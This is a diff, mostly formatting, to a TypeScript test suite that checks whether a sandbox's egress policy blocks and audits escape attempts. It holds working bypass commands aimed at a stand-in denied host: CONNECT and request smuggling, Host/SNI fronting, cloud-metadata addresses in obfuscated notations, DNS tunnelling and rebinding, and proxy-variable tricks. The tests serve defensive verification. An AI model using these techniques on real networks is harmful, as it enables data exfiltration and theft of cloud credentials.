@@ -119,7 +119,8 @@ def attempt(f):
 `;
 
 /** A request smuggled past the gateway, would it let it through: a CONNECT the world's web servers relay, carrying a request to denied.test marked `marker`. */
-const SMUGGLED = (marker: string) => `CONNECT denied.test:80 HTTP/1.1\r\nHost: denied.test:80\r\n\r\nGET /${marker} HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n`;
+const SMUGGLED = (marker: string) =>
+  `CONNECT denied.test:80 HTTP/1.1\r\nHost: denied.test:80\r\n\r\nGET /${marker} HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n`;
 /** `s` as a Python string literal. */
 const pyString = (s: string) => JSON.stringify(s);
 
@@ -193,8 +194,12 @@ export function egressConformance(runtime: EgressRuntime): void {
       await sleep(300); // a relay in flight lands
       const requests = (await world.requests()).slice(m.requests);
       const bad = requests.filter((r) => r.server === 'denied.test' || markers.some((x) => r.path.includes(x)));
-      assert.deepEqual(bad.map((r) => `${r.server} ${r.method} ${r.host} ${r.path}`), [], 'requests reached the world that should not have');
-      assert.deepEqual(await world.arrivals('denied.test'), m.arrivals, 'packets reached denied.test\'s address');
+      assert.deepEqual(
+        bad.map((r) => `${r.server} ${r.method} ${r.host} ${r.path}`),
+        [],
+        'requests reached the world that should not have',
+      );
+      assert.deepEqual(await world.arrivals('denied.test'), m.arrivals, "packets reached denied.test's address");
       assert.equal(canaryConnections, m.canary, 'a connection reached the host itself (the canary)');
       const dials = [...hostDials(dialed)].filter((d) => !m.dials.has(d));
       assert.deepEqual(dials, [], `the host itself connected to ${dialed}`);
@@ -215,7 +220,14 @@ export function egressConformance(runtime: EgressRuntime): void {
       key = (await createTenantKey(server, 'egressco')).key;
       const ALLOW = 'allow: [api.allowed.test, "*.wild.allowed.test", "echo.allowed.test:7000"]';
       await storeSpec(server, key, SPEC('egress-deny', `network:\n  egress:\n    default: deny\n    ${ALLOW}\n`));
-      await storeSpec(server, key, SPEC('egress-inspected', `network:\n  egress:\n    default: deny\n    ${ALLOW}\naudit:\n  http_calls: true\nservices:\n  - {name: db, type: postgres}\n`));
+      await storeSpec(
+        server,
+        key,
+        SPEC(
+          'egress-inspected',
+          `network:\n  egress:\n    default: deny\n    ${ALLOW}\naudit:\n  http_calls: true\nservices:\n  - {name: db, type: postgres}\n`,
+        ),
+      );
       await storeSpec(server, key, SPEC('egress-open', 'network:\n  egress:\n    default: allow\n    allow: ["*"]\n'));
       await storeSpec(server, key, SPEC('egress-none'));
       [deny, inspected, open] = await Promise.all([create('deny', 'egress-deny'), create('inspected', 'egress-inspected'), create('open', 'egress-open')]);
@@ -232,25 +244,34 @@ export function egressConformance(runtime: EgressRuntime): void {
     test('CONNECT relayed through an allowed host: to a denied name, to its address, nested in an allowed tunnel, and inside HTTPS to an allowed host', async () => {
       const m = await mark();
       const since = now();
-      const curl = await sh(deny, [
-        'curl -sS -m 10 -p -x http://api.allowed.test:80 https://denied.test/relayed',
-        `curl -sS -m 10 -k -p -x http://api.allowed.test:80 https://${denied}/relayed-ip`,
-      ].join('; '));
+      const curl = await sh(
+        deny,
+        [
+          'curl -sS -m 10 -p -x http://api.allowed.test:80 https://denied.test/relayed',
+          `curl -sS -m 10 -k -p -x http://api.allowed.test:80 https://${denied}/relayed-ip`,
+        ].join('; '),
+      );
       assert.doesNotMatch(curl.stdout, FROM_DENIED);
       await recorded(deny, since, 'CONNECT denied.test:443', (d) => d.protocol === 'connect' && d.host === 'denied.test' && d.port === 443);
       await recorded(deny, since, `CONNECT ${denied}:443`, (d) => d.protocol === 'connect' && d.host === denied);
 
-      const nested = await python(deny, `
+      const nested = await python(
+        deny,
+        `
 s = socket.create_connection(('api.allowed.test', 80), timeout=10)
 first = exchange(s, b'CONNECT api.allowed.test:80 HTTP/1.1\\r\\nHost: api.allowed.test:80\\r\\n\\r\\n', 1.0)
-print(json.dumps({'first': first, 'inner': exchange(s, ${pyString(SMUGGLED('nested-connect'))}.encode())}))`);
+print(json.dumps({'first': first, 'inner': exchange(s, ${pyString(SMUGGLED('nested-connect'))}.encode())}))`,
+      );
       assert.match(nested.first, /^HTTP\/1\.1 200/, 'the allowed tunnel opens');
       assert.doesNotMatch(nested.inner, FROM_DENIED);
       await recorded(deny, since, 'the nested CONNECT denied.test:80', (d) => d.protocol === 'connect' && d.host === 'denied.test' && d.port === 80);
 
-      const inTls = await python(inspected, `
+      const inTls = await python(
+        inspected,
+        `
 s = tls(socket.create_connection(('api.allowed.test', 443), timeout=10), 'api.allowed.test')
-print(json.dumps({'answer': exchange(s, ${pyString(SMUGGLED('connect-in-tls'))}.encode())}))`);
+print(json.dumps({'answer': exchange(s, ${pyString(SMUGGLED('connect-in-tls'))}.encode())}))`,
+      );
       assert.doesNotMatch(inTls.answer, FROM_DENIED);
       await recorded(inspected, since, 'CONNECT denied.test:80 inside HTTPS', (d) => d.host === 'denied.test');
       await nothingReached(m, ['nested-connect', 'connect-in-tls']);
@@ -261,10 +282,13 @@ print(json.dumps({'answer': exchange(s, ${pyString(SMUGGLED('connect-in-tls'))}.
     test('SNI different from Host: Host denied.test inside TLS for an allowed name, and SNI denied.test sent to an allowed address', async () => {
       const m = await mark();
       const since = now();
-      const res = await sh(inspected, [
-        `curl -sS -m 10 -H 'Host: denied.test' https://api.allowed.test/fronted`,
-        `curl -sS -m 10 --resolve denied.test:443:${world.ip('api.allowed.test')} https://denied.test/sni-denied`,
-      ].join('; '));
+      const res = await sh(
+        inspected,
+        [
+          `curl -sS -m 10 -H 'Host: denied.test' https://api.allowed.test/fronted`,
+          `curl -sS -m 10 --resolve denied.test:443:${world.ip('api.allowed.test')} https://denied.test/sni-denied`,
+        ].join('; '),
+      );
       assert.doesNotMatch(res.stdout, FROM_DENIED);
       await recorded(inspected, since, 'Host denied.test in TLS for api.allowed.test', (d) => d.host === 'denied.test' && /fronting/.test(d.reason));
       await recorded(inspected, since, 'SNI denied.test', (d) => d.protocol === 'tls' && d.host === 'denied.test');
@@ -276,22 +300,28 @@ print(json.dumps({'answer': exchange(s, ${pyString(SMUGGLED('connect-in-tls'))}.
 
     // --- addresses ----------------------------------------------------------------------------
 
-    test('raw IP literals: HTTP, TLS without SNI and other TCP to denied.test\'s address, as IPv4 and as an IPv4-mapped IPv6 address, and in a Host header', async () => {
+    test("raw IP literals: HTTP, TLS without SNI and other TCP to denied.test's address, as IPv4 and as an IPv4-mapped IPv6 address, and in a Host header", async () => {
       const m = await mark();
       const since = now();
-      const res = await sh(deny, [
-        `curl -sS -m 10 http://${denied}/raw-ip`,
-        `curl -sS -m 10 -g 'http://[::ffff:${denied}]/mapped-url'`,
-        `curl -sS -m 10 -H 'Host: [::ffff:${denied}]' http://api.allowed.test/mapped-host`,
-        `curl -sS -m 10 -H 'Host: ${denied}' http://api.allowed.test/ip-host`,
-      ].join('; '));
+      const res = await sh(
+        deny,
+        [
+          `curl -sS -m 10 http://${denied}/raw-ip`,
+          `curl -sS -m 10 -g 'http://[::ffff:${denied}]/mapped-url'`,
+          `curl -sS -m 10 -H 'Host: [::ffff:${denied}]' http://api.allowed.test/mapped-host`,
+          `curl -sS -m 10 -H 'Host: ${denied}' http://api.allowed.test/ip-host`,
+        ].join('; '),
+      );
       assert.doesNotMatch(res.stdout, FROM_DENIED);
       for (const p of ['/raw-ip', '/mapped-url', '/mapped-host', '/ip-host']) await recorded(deny, since, `GET ${p}`, (d) => d.path === p);
-      const raw = await python(deny, `
+      const raw = await python(
+        deny,
+        `
 print(json.dumps({
   'tcp': attempt(lambda: exchange(socket.create_connection(('${denied}', 7000), timeout=5), b'hello\\n')),
   'tls_no_sni': attempt(lambda: exchange(tls(socket.create_connection(('${denied}', 443), timeout=5), None), b'GET /no-sni HTTP/1.0\\r\\n\\r\\n')),
-}))`);
+}))`,
+      );
       assert.ok(!/hello/.test(raw.tcp), JSON.stringify(raw));
       assert.doesNotMatch(raw.tls_no_sni, FROM_DENIED);
       await recorded(deny, since, `TCP to ${denied}:7000`, (d) => d.protocol === 'tcp' && d.ip === denied && d.port === 7000);
@@ -302,11 +332,17 @@ print(json.dumps({
     test('IPv6 literals fail at once inside and nothing leaves; the command that tried is on the audit', async () => {
       const m = await mark();
       const since = now();
-      const out = await python(deny, `
+      const out = await python(
+        deny,
+        `
 t = time.time()
 r = [attempt(lambda: socket.create_connection((a, 80), timeout=10)) for a in ('2001:db8::1', 'fd00::1', 'fe80::a9fe:a9fe%eth0', '64:ff9b::${denied}')]
-print(json.dumps({'results': [str(x) for x in r], 'ms': round((time.time() - t) * 1000)}))`);
-      assert.ok(out.results.every((r: string) => /Error/.test(r)), JSON.stringify(out));
+print(json.dumps({'results': [str(x) for x in r], 'ms': round((time.time() - t) * 1000)}))`,
+      );
+      assert.ok(
+        out.results.every((r: string) => /Error/.test(r)),
+        JSON.stringify(out),
+      );
       assert.ok(out.ms < 3000, `at once: ${out.ms} ms`);
       await recorded(deny, since, 'the command', (d) => String(d.command).includes('2001:db8::1'), 'process_spawn');
       await nothingReached(m);
@@ -317,17 +353,22 @@ print(json.dumps({'results': [str(x) for x in r], 'ms': round((time.time() - t) 
     test(`the metadata address ${METADATA}, under default allow: by address, in other notations (decimal, hex, octal, IPv4-mapped), by Host, by CONNECT, by a name resolving to it, raw TCP and TLS`, async () => {
       const m = await mark();
       const since = now();
-      const res = await sh(open, [
-        `curl -sS -m 10 http://${METADATA}/latest/meta-data/`,
-        'curl -sS -m 10 http://2852039166/decimal',
-        'curl -sS -m 10 http://0xa9fea9fe/hex',
-        'curl -sS -m 10 http://0251.0376.0251.0376/octal',
-        `curl -sS -m 10 -g 'http://[::ffff:${METADATA}]/by-mapped-url'`,
-        `curl -sS -m 10 -H 'Host: ${METADATA}' http://api.allowed.test/by-host`,
-        `curl -sS -m 10 -H 'Host: [::ffff:${METADATA}]' http://api.allowed.test/by-mapped-host`,
-        `curl -sS -m 10 -p -x http://api.allowed.test:80 http://${METADATA}/by-connect`,
-        `curl -sS -m 10 http://169-254-169-254.ip.wild.allowed.test/by-name`,
-      ].map((c) => `${c}; echo " rc=$?"`).join('; '));
+      const res = await sh(
+        open,
+        [
+          `curl -sS -m 10 http://${METADATA}/latest/meta-data/`,
+          'curl -sS -m 10 http://2852039166/decimal',
+          'curl -sS -m 10 http://0xa9fea9fe/hex',
+          'curl -sS -m 10 http://0251.0376.0251.0376/octal',
+          `curl -sS -m 10 -g 'http://[::ffff:${METADATA}]/by-mapped-url'`,
+          `curl -sS -m 10 -H 'Host: ${METADATA}' http://api.allowed.test/by-host`,
+          `curl -sS -m 10 -H 'Host: [::ffff:${METADATA}]' http://api.allowed.test/by-mapped-host`,
+          `curl -sS -m 10 -p -x http://api.allowed.test:80 http://${METADATA}/by-connect`,
+          `curl -sS -m 10 http://169-254-169-254.ip.wild.allowed.test/by-name`,
+        ]
+          .map((c) => `${c}; echo " rc=$?"`)
+          .join('; '),
+      );
       assert.doesNotMatch(res.stdout, /"server"|ami-id|instance-id/, res.stdout);
       for (const [what, fits] of [
         ['the address', (d: any) => d.path === '/latest/meta-data/'],
@@ -339,13 +380,17 @@ print(json.dumps({'results': [str(x) for x in r], 'ms': round((time.time() - t) 
         ['Host as an IPv4-mapped IPv6 address', (d: any) => d.path === '/by-mapped-host'],
         ['CONNECT', (d: any) => (d.protocol === 'connect' && d.host === METADATA) || d.path === '/by-connect'],
         ['a name resolving to it', (d: any) => d.path === '/by-name' || d.host === '169-254-169-254.ip.wild.allowed.test'],
-      ] as const) await recorded(open, since, `${METADATA} by ${what}`, fits);
+      ] as const)
+        await recorded(open, since, `${METADATA} by ${what}`, fits);
 
-      const raw = await python(open, `
+      const raw = await python(
+        open,
+        `
 print(json.dumps({
   'tcp': attempt(lambda: exchange(socket.create_connection(('${METADATA}', 8080), timeout=5), b'GET / HTTP/1.0\\r\\n\\r\\n')),
   'tls_no_sni': attempt(lambda: exchange(tls(socket.create_connection(('${METADATA}', 443), timeout=5), None), b'GET / HTTP/1.0\\r\\n\\r\\n')),
-}))`);
+}))`,
+      );
       assert.doesNotMatch(JSON.stringify(raw), /HTTP\/1\.[01] 200/);
       await recorded(open, since, `raw TCP to ${METADATA}:8080`, (d) => d.ip === METADATA && d.port === 8080);
       // Known by the name the sandbox resolved to that address, or by the address itself.
@@ -355,12 +400,14 @@ print(json.dumps({
 
     // --- DNS ----------------------------------------------------------------------------------
 
-    test('DNS tunnelling: long labels under a denied name and a TXT flood, to the sandbox\'s resolver and to the world\'s, over UDP and TCP, are answered inside and never reach a resolver outside', async () => {
+    test("DNS tunnelling: long labels under a denied name and a TXT flood, to the sandbox's resolver and to the world's, over UDP and TCP, are answered inside and never reach a resolver outside", async () => {
       const m = await mark();
       const before = (await world.dnsQueries()).length;
       const since = now();
       const worldDns = world.dns.split(':')[0]!;
-      const out = await python(deny, `
+      const out = await python(
+        deny,
+        `
 import binascii, os
 resolver = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
 def query(name, qtype, qid):
@@ -383,13 +430,23 @@ t = socket.create_connection(('${worldDns}', 53), timeout=5)
 q = query('%s.tcp.t.denied.test' % label(), 16, 7)
 t.sendall(struct.pack('>H', len(q)) + q)
 d = drain(t, 2.0)
-print(json.dumps({'rcodes': rcodes, 'allowed_txt_answers': answers, 'tcp_rcode': d[5] & 15 if len(d) > 5 else None}))`);
+print(json.dumps({'rcodes': rcodes, 'allowed_txt_answers': answers, 'tcp_rcode': d[5] & 15 if len(d) > 5 else None}))`,
+      );
       assert.deepEqual(out.rcodes, { 3: 300 }, `every name under denied.test is NXDOMAIN: ${JSON.stringify(out)}`);
       assert.equal(out.tcp_rcode, 3, JSON.stringify(out));
       assert.equal(out.allowed_txt_answers, 0, 'TXT of an allowed name: no answer to carry data');
       const asked = (await world.dnsQueries()).slice(before);
-      assert.deepEqual(asked.filter((q) => /denied\.test|^.{60,}/.test(q.name) || q.type !== 'A'), [], 'the world\'s resolver heard none of it');
-      const d = await recorded(deny, since, 'a tunnelling query', (x) => x.protocol === 'dns' && /^[0-9a-f]{62}x\.[0-9a-f]{62}x\.\d+\.t\.denied\.test$/.test(x.host));
+      assert.deepEqual(
+        asked.filter((q) => /denied\.test|^.{60,}/.test(q.name) || q.type !== 'A'),
+        [],
+        "the world's resolver heard none of it",
+      );
+      const d = await recorded(
+        deny,
+        since,
+        'a tunnelling query',
+        (x) => x.protocol === 'dns' && /^[0-9a-f]{62}x\.[0-9a-f]{62}x\.\d+\.t\.denied\.test$/.test(x.host),
+      );
       assert.equal(d.query, 'TXT');
       await nothingReached(m);
     });
@@ -398,7 +455,11 @@ print(json.dumps({'rcodes': rcodes, 'allowed_txt_answers': answers, 'tcp_rcode':
       const m = await mark();
       const since = now();
       const hostSide = world.ip('api.allowed.test').replace(/\.\d+$/, '.1');
-      const targets = [['127-0-0-1', '/to-loopback'], [hostSide.replace(/\./g, '-'), '/to-host'], ['169-254-169-254', '/to-metadata']] as const;
+      const targets = [
+        ['127-0-0-1', '/to-loopback'],
+        [hostSide.replace(/\./g, '-'), '/to-host'],
+        ['169-254-169-254', '/to-metadata'],
+      ] as const;
       const commands = targets.map(([ip, p]) => {
         const name = `${ip}.rebind.wild.allowed.test`;
         // The first answer (the allowed host's address), then past the gateway's 1 s cache, requests
@@ -406,28 +467,38 @@ print(json.dumps({'rcodes': rcodes, 'allowed_txt_answers': answers, 'tcp_rcode':
         return `first=$(getent ahostsv4 ${name} | awk 'NR==1 {print $1}'); echo "first $first"; sleep 1.2; curl -sS -m 10 --resolve ${name}:${canaryPort}:$first http://${name}:${canaryPort}${p}; curl -sS -m 10 --resolve ${name}:80:$first http://${name}${p}-80`;
       });
       const res = await sh(deny, commands.join('; '));
-      assert.equal(res.stdout.split('\n').filter((l) => l === `first ${world.ip('other.allowed.test')}`).length, 3, `each name first answered a public address: ${res.stdout}`);
+      assert.equal(
+        res.stdout.split('\n').filter((l) => l === `first ${world.ip('other.allowed.test')}`).length,
+        3,
+        `each name first answered a public address: ${res.stdout}`,
+      );
       for (const [ip, p] of targets) {
-        for (const path of [p, `${p}-80`]) await recorded(deny, since, `the rebound ${path} (${ip})`, (d) => d.path === path && d.host === `${ip}.rebind.wild.allowed.test`);
+        for (const path of [p, `${p}-80`])
+          await recorded(deny, since, `the rebound ${path} (${ip})`, (d) => d.path === path && d.host === `${ip}.rebind.wild.allowed.test`);
       }
       await nothingReached(m);
     });
 
     // --- proxy variables ----------------------------------------------------------------------
 
-    test('proxy variables unset or pointed elsewhere: at denied.test\'s address on a proxy port, on port 80, SOCKS, at the bridge to the service, and none at all', async () => {
+    test("proxy variables unset or pointed elsewhere: at denied.test's address on a proxy port, on port 80, SOCKS, at the bridge to the service, and none at all", async () => {
       const m = await mark();
       const since = now();
-      const res = await sh(deny, [
-        `http_proxy=http://${denied}:3128 curl -sS -m 10 http://api.allowed.test/proxy-3128`,
-        `https_proxy=http://${denied}:80 curl -sS -m 10 https://denied.test/proxy-80`,
-        `ALL_PROXY=socks5h://${denied}:1080 curl -sS -m 10 http://denied.test/socks`,
-        `env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY curl -sS -m 10 --noproxy '*' http://denied.test/no-proxy`,
-        `curl -sS -m 10 --noproxy '*' --resolve denied.test:80:${denied} http://denied.test/no-proxy-resolved`,
-        // The way out to the service (SVC_BASE_URL's bridge) as a proxy: it is no proxy.
-        'http_proxy=$SVC_BASE_URL curl -sS -m 10 http://denied.test/via-bridge',
-        'https_proxy=$SVC_BASE_URL curl -sS -m 10 https://denied.test/via-bridge-connect',
-      ].map((c) => `${c}; echo " rc=$?"`).join('; '));
+      const res = await sh(
+        deny,
+        [
+          `http_proxy=http://${denied}:3128 curl -sS -m 10 http://api.allowed.test/proxy-3128`,
+          `https_proxy=http://${denied}:80 curl -sS -m 10 https://denied.test/proxy-80`,
+          `ALL_PROXY=socks5h://${denied}:1080 curl -sS -m 10 http://denied.test/socks`,
+          `env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY curl -sS -m 10 --noproxy '*' http://denied.test/no-proxy`,
+          `curl -sS -m 10 --noproxy '*' --resolve denied.test:80:${denied} http://denied.test/no-proxy-resolved`,
+          // The way out to the service (SVC_BASE_URL's bridge) as a proxy: it is no proxy.
+          'http_proxy=$SVC_BASE_URL curl -sS -m 10 http://denied.test/via-bridge',
+          'https_proxy=$SVC_BASE_URL curl -sS -m 10 https://denied.test/via-bridge-connect',
+        ]
+          .map((c) => `${c}; echo " rc=$?"`)
+          .join('; '),
+      );
       assert.doesNotMatch(res.stdout, FROM_DENIED);
       await recorded(deny, since, `the proxy at ${denied}:3128`, (d) => d.ip === denied && d.port === 3128);
       await recorded(deny, since, 'CONNECT denied.test:443 to the proxy on port 80', (d) => d.protocol === 'connect' && d.host === 'denied.test');
@@ -440,17 +511,25 @@ print(json.dumps({'rcodes': rcodes, 'allowed_txt_answers': answers, 'tcp_rcode':
       // A proxy at denied.test's address for an allowed URL: the request goes where its URL says, never to that proxy.
       const via = await sh(inspected, `http_proxy=http://${denied}:80 curl -sS -m 10 http://api.allowed.test/via-denied-proxy`);
       assert.equal(JSON.parse(via.stdout).server, 'api.allowed.test', via.stderr);
-      await recorded(inspected, since, 'the request through the proxy variable', (d) => d.host === 'api.allowed.test' && d.path === '/via-denied-proxy', 'http_call');
+      await recorded(
+        inspected,
+        since,
+        'the request through the proxy variable',
+        (d) => d.host === 'api.allowed.test' && d.path === '/via-denied-proxy',
+        'http_call',
+      );
       await nothingReached(m);
     });
 
     // --- UDP and QUIC ---------------------------------------------------------------------------
 
-    test('UDP and QUIC never leave: QUIC Initials to denied.test and to an allowed host\'s address on 443, and datagrams to other ports, are refused and recorded', async () => {
+    test("UDP and QUIC never leave: QUIC Initials to denied.test and to an allowed host's address on 443, and datagrams to other ports, are refused and recorded", async () => {
       const m = await mark();
       const allowedBefore = await world.arrivals('api.allowed.test');
       const since = now();
-      const out = await python(deny, `
+      const out = await python(
+        deny,
+        `
 import os
 # A QUIC v1 Initial's shape: long header, version 1, an 8-byte connection id, padded to 1200 bytes.
 initial = bytes([0xc3, 0, 0, 0, 1, 8]) + os.urandom(8) + bytes([0]) + os.urandom(1180)
@@ -461,9 +540,14 @@ for target in [('${denied}', 443), ('${world.ip('api.allowed.test')}', 443), ('$
         try: s.sendto(initial, target)
         except OSError: pass
     got.append(attempt(lambda: s.recvfrom(2048)[0].hex()))
-print(json.dumps(got))`);
-      assert.ok(out.every((r: string) => /Error/.test(r)), JSON.stringify(out));
-      for (const port of [443, 4433, 123]) await recorded(deny, since, `UDP to ${denied}:${port}`, (d) => d.protocol === 'udp' && d.ip === denied && d.port === port);
+print(json.dumps(got))`,
+      );
+      assert.ok(
+        out.every((r: string) => /Error/.test(r)),
+        JSON.stringify(out),
+      );
+      for (const port of [443, 4433, 123])
+        await recorded(deny, since, `UDP to ${denied}:${port}`, (d) => d.protocol === 'udp' && d.ip === denied && d.port === port);
       await recorded(deny, since, 'UDP to api.allowed.test:443', (d) => d.protocol === 'udp' && d.ip === world.ip('api.allowed.test') && d.port === 443);
       assert.equal((await world.arrivals('api.allowed.test')).udp, allowedBefore.udp, 'no datagram reached the allowed host either');
       await nothingReached(m);
@@ -479,7 +563,10 @@ print(json.dumps(got))`);
       const m = await mark();
       const since = now();
       const next = await create('next', 'egress-deny');
-      const res = await sh(next, `curl -sS -m 10 http://denied.test/after; curl -sS -m 10 --resolve denied.test:80:${denied} http://denied.test/after-resolved`);
+      const res = await sh(
+        next,
+        `curl -sS -m 10 http://denied.test/after; curl -sS -m 10 --resolve denied.test:80:${denied} http://denied.test/after-resolved`,
+      );
       assert.doesNotMatch(res.stdout, FROM_DENIED);
       await recorded(next, since, 'denied.test looked up', (d) => d.protocol === 'dns' && d.host === 'denied.test');
       await recorded(next, since, 'denied.test by its address', (d) => d.path === '/after-resolved');
@@ -499,13 +586,19 @@ print(json.dumps(got))`);
       assert.ok(warm, 'a create took a warm sandbox');
       const m = await mark();
       const since = now();
-      const out = await python(warm, `
+      const out = await python(
+        warm,
+        `
 print(json.dumps({
   'tcp': attempt(lambda: socket.create_connection(('${denied}', 80), timeout=5)),
   'name': attempt(lambda: socket.getaddrinfo('denied.test', 80)),
   'udp': attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('${denied}', 443))),
-}))`);
-      assert.ok(Object.values(out).every((r) => /error/i.test(String(r))), JSON.stringify(out));
+}))`,
+      );
+      assert.ok(
+        Object.values(out).every((r) => /error/i.test(String(r))),
+        JSON.stringify(out),
+      );
       await recorded(warm, since, 'the command', (d) => String(d.command).includes(denied), 'process_spawn');
       await nothingReached(m);
       for (const box of boxes) assert.equal((await req('DELETE', `/v1/sandboxes/${box.id}`)).status, 200);
@@ -514,7 +607,10 @@ print(json.dumps({
     /** Whether the sandbox was a warm one, as its `container_started` event says. */
     const isWarm = async (box: Box): Promise<boolean> => {
       const controller = new AbortController();
-      const res = await fetch(`${server.url}/v1/sandboxes/${box.id}/events`, { headers: { authorization: `Bearer ${key}`, accept: 'text/event-stream' }, signal: controller.signal });
+      const res = await fetch(`${server.url}/v1/sandboxes/${box.id}/events`, {
+        headers: { authorization: `Bearer ${key}`, accept: 'text/event-stream' },
+        signal: controller.signal,
+      });
       let text = '';
       try {
         for await (const chunk of res.body as unknown as AsyncIterable<Uint8Array>) {
@@ -541,10 +637,13 @@ print(json.dumps({
         const marker = `after-upgrade-${tag}`;
         const m = await mark();
         const since = now();
-        const out = await python(box, `
+        const out = await python(
+          box,
+          `
 s = ${connect}
 first = exchange(s, b'GET /upgrade-first HTTP/1.1\\r\\nHost: smuggle.wild.allowed.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n', 1.0)
-print(json.dumps({'first': first, 'rest': exchange(s, ${pyString(SMUGGLED(marker))}.encode())}))`);
+print(json.dumps({'first': first, 'rest': exchange(s, ${pyString(SMUGGLED(marker))}.encode())}))`,
+        );
         assert.doesNotMatch(out.rest, FROM_DENIED, 'the agent got an answer from denied.test');
         await nothingReached(m, [marker]);
         // What the agent sent after the upgrade was refused, not sent on, or sent on as a request:
@@ -560,15 +659,23 @@ print(json.dumps({'first': first, 'rest': exchange(s, ${pyString(SMUGGLED(marker
           const m = await mark();
           const since = now();
           const request = `${method} /chunked-first HTTP/1.1\r\nHost: smuggle.wild.allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n${Buffer.byteLength(body).toString(16)}\r\n${body}\r\n0\r\n\r\n`;
-          const out = await python(box, `
+          const out = await python(
+            box,
+            `
 s = ${connect}
-print(json.dumps({'answer': exchange(s, ${pyString(request)}.encode())}))`);
+print(json.dumps({'answer': exchange(s, ${pyString(request)}.encode())}))`,
+          );
           assert.doesNotMatch(out.answer, FROM_DENIED, 'the agent got an answer from denied.test');
           await nothingReached(m, [marker]);
           // Sent on as the body it is, nothing was refused: then only a sandbox that records its
           // HTTP calls has a record due, the carrying request's with the body's bytes counted.
           if (box === inspected) {
-            await recorded(box, since, `the request in the ${method} body`, (d) => d.host === 'denied.test' || naming(marker)(d) || (d.path === '/chunked-first' && d.request_bytes >= Buffer.byteLength(body)));
+            await recorded(
+              box,
+              since,
+              `the request in the ${method} body`,
+              (d) => d.host === 'denied.test' || naming(marker)(d) || (d.path === '/chunked-first' && d.request_bytes >= Buffer.byteLength(body)),
+            );
           } else {
             await recorded(box, since, 'the command', (d) => String(d.command).includes(marker), 'process_spawn');
           }
@@ -576,29 +683,40 @@ print(json.dumps({'answer': exchange(s, ${pyString(request)}.encode())}))`);
       }
     }
 
-    test('TLS without SNI to an allowed host\'s address, in a sandbox that inspects HTTPS, is not passed through uninspected', async () => {
+    test("TLS without SNI to an allowed host's address, in a sandbox that inspects HTTPS, is not passed through uninspected", async () => {
       const m = await mark();
       const since = now();
-      const out = await python(inspected, `
+      const out = await python(
+        inspected,
+        `
 addr = socket.gethostbyname('api.allowed.test')
 s = tls(socket.create_connection((addr, 443), timeout=10), None)
-print(json.dumps({'answer': exchange(s, ${pyString(SMUGGLED('no-sni-tls'))}.encode())}))`);
+print(json.dumps({'answer': exchange(s, ${pyString(SMUGGLED('no-sni-tls'))}.encode())}))`,
+      );
       assert.doesNotMatch(out.answer, FROM_DENIED, 'the agent got an answer from denied.test');
       await nothingReached(m, ['no-sni-tls']);
-      await recorded(inspected, since, 'the request inside TLS without SNI', (d) => d.host === 'denied.test' || naming('no-sni-tls')(d) || (d.protocol === 'tls' && d.host === null));
+      await recorded(
+        inspected,
+        since,
+        'the request inside TLS without SNI',
+        (d) => d.host === 'denied.test' || naming('no-sni-tls')(d) || (d.protocol === 'tls' && d.host === null),
+      );
     });
 
-    test('CONNECT db:5432 to the sandbox\'s own backing service goes to that service or is refused; the host never dials its virtual address', async () => {
+    test("CONNECT db:5432 to the sandbox's own backing service goes to that service or is refused; the host never dials its virtual address", async () => {
       const view = await req('GET', `/v1/sandboxes/${inspected.id}`);
       const address = (JSON.stringify(view.body).match(/198\.18\.0\.\d+/) ?? ['198.18.0.1'])[0];
       const m = await mark(address);
       const since = now();
       // PostgreSQL's SSLRequest: its server answers one byte, N or S.
-      const out = await python(inspected, `
+      const out = await python(
+        inspected,
+        `
 s = socket.create_connection(('api.allowed.test', 80), timeout=10)
 opened = exchange(s, b'CONNECT db:5432 HTTP/1.1\\r\\nHost: db:5432\\r\\n\\r\\n', 1.0)
 answer = exchange(s, struct.pack('>II', 8, 80877103), 2.0) if opened.startswith('HTTP/1.1 200') else ''
-print(json.dumps({'opened': opened, 'answer': answer}))`);
+print(json.dumps({'opened': opened, 'answer': answer}))`,
+      );
       await nothingReached(m, [], address);
       const reachedOwn = /^[NS]$/.test(out.answer);
       if (!reachedOwn) await recorded(inspected, since, 'CONNECT db:5432', (d) => d.host === 'db' || naming('db:5432')(d));
